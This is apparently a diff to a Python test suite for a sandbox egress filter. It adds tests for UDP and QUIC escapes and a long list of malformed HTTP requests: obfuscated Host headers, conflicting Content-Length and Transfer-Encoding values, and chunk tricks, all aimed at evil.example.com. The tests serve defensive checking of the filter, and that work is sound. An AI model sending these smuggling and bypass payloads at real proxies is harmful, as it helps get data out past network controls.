@@ -6,7 +6,7 @@ import threading
 import egressworld
 import kerntest
 from egressworld import WEB
-from kerntest import BoxCase, as_user, need
+from kerntest import BoxCase, as_root_and_user, as_user, need
 
 # What a script in the box has at hand. `say` opens the allowed host's port, sends the pieces, and prints what came back.
 TOOLS = r'''
@@ -70,8 +70,7 @@ class Recorder(threading.Thread):
         self.socket.close()
 
 
-@as_user
-class Hostile(BoxCase):
+class Attack(BoxCase):
     @classmethod
     def prepare_class(cls):
         if "world" not in kerntest._cache:
@@ -94,6 +93,9 @@ class Hostile(BoxCase):
         result.reasons = {row["reason"] for row in result.report["denied"]["hosts"]}
         return result
 
+
+@as_root_and_user
+class WaysOut(Attack):
     def test_other_ways_out(self):
         result = self.attack(r'''
 def attempt(what, fn):
@@ -105,6 +107,10 @@ attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(
 attempt("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"\x08" + bytes(63), ("203.0.113.1", 0)))
 attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.53", 53)))
 attempt("quic", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("2001:db8::1", 443)))
+def to_an_allowed_name():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((socket.gethostbyname("web.example.com"), 443))
+    s.send(b"x"); s.settimeout(1); s.recv(9)
+attempt("quic to an allowed name", to_an_allowed_name)
 attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW, 0x0300))
 attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
 attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0egress-test"))
@@ -122,8 +128,11 @@ def link():
 attempt("link", link)
 ''')
         self.assertNotIn("worked", result.out, result)
-        self.assertEqual(len(result.out.splitlines()), 9, result)
+        self.assertEqual(len(result.out.splitlines()), 10, result)
 
+
+@as_user
+class Hostile(Attack):
     def test_dns_tunnels(self):
         asked = len(self.names.asked)
         result = self.attack(r'''
@@ -189,6 +198,38 @@ for port in (80, 8000):
     say(port, b"GET / HTTP/1.1\r\n" + H + b"Upgrade: websocket\r\n\r\n", EVIL, wait=0.3)
 ''')
         self.assertTrue({"HTTP named another host", "an HTTP request that cannot be checked"} <= result.reasons, result)
+
+    def test_http_in_odd_writing(self):
+        """What servers read differently is let through by nobody."""
+        result = self.attack(r'''
+HEAD = b"GET / HTTP/1.1\r\n" + H
+POST = b"POST / HTTP/1.1\r\n" + H
+for port in (80, 8000):
+    for head in (b"Host : evil.example.com", b" Host: evil.example.com", b"X: y\r\n evil", b"X:\0evil", b"X: y\revil", b"X: y\nHost: evil.example.com",
+                 b"Host:evil.example.com", b"evil", b"X\x0bevil: y", b"\x80evil: y"):
+        say(port, HEAD + head + b"\r\n\r\n")
+    for head in (b"Content-Length: +4", b"Content-Length: 0x4", b"Content-Length: 4, 4", b"Content-Length: 4 4", b"Content-Length: -4",
+                 b"Content-Length : 4", b"Content-Length: 99999999999999999999", b"Content-Length:", b"Transfer-Encoding: chunked, chunked",
+                 b"Transfer-Encoding: \x0bchunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
+                 b"Transfer-Encoding: gzip, chunked", b"Transfer_Encoding: chunked\r\nContent-Length: 4\r\nContent-Length: 5"):
+        say(port, POST + head + b"\r\n\r\nabcd" + EVIL)
+    for chunk in (b"4;x\nabcd\r\n0\r\n\r\n", b"+4\r\nabcd\r\n0\r\n\r\n", b"0x4\r\nabcd\r\n0\r\n\r\n", b"fffffffffffffffff\r\n", b"4\r\nabcdXX0\r\n\r\n",
+                  b"4\nabcd\n0\n\n", b"0\r\nHost: evil.example.com\r\n\r\n"):
+        say(port, POST + b"Transfer-Encoding: chunked\r\n\r\n" + chunk + EVIL)
+    for line in (b"GET / HTTP/0.9", b"GET /", b"GET / HTTP/1.2", b"GET / HTTP/2.0", b"GET /  HTTP/1.1", b"GET\t/ HTTP/1.1", b"GET / HTTP/1.1 evil",
+                 b"GET http://web.example.com@evil.example.com/ HTTP/1.1", b"GET http://evil.example.com:80/ HTTP/1.1", b"GET https://evil.example.com/ HTTP/1.1",
+                 b"CONNECT evil.example.com:443 HTTP/1.1", b"GET evil.example.com HTTP/1.1", b"GET *evil HTTP/1.1", b"get /\x7fevil HTTP/1.1", b"GET /\1evil HTTP/1.1",
+                 b" GET /\xffevil HTTP/1.1"):
+        say(port, line + b"\r\n" + H + b"\r\n")
+    for host in (b"web.example.com:81", b"web.example.com:evil", b"web.example.com, evil.example.com", b"web.example.com evil.example.com", b"evil@web.example.com",
+                 b"web.example.com.evil.example.com", b"web.example.com\0.evil.example.com", b"[::ffff:203.0.113.9]", b"203.0.113.9", b"", b"%77eb.example.com"):
+        say(port, b"GET /evil HTTP/1.1\r\nHost: " + host + b"\r\n\r\n")
+    say(port, b"GET /evil HTTP/1.0\r\n\r\n")
+    say(port, b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
+    say(port, b"GET /evil HTTP/1.1\r\n\r\n")
+say(80, b"GET / HTTP/1.1\r\nhOST: WEB.Example.COM.:80\r\n\r\n")
+''')
+        self.assertEqual(result.seen.count(b"GET / HTTP/1.1\r\nhOST"), 1, result)
 
     def test_the_proxy_is_no_way_round(self):
         result = self.attack(r'''
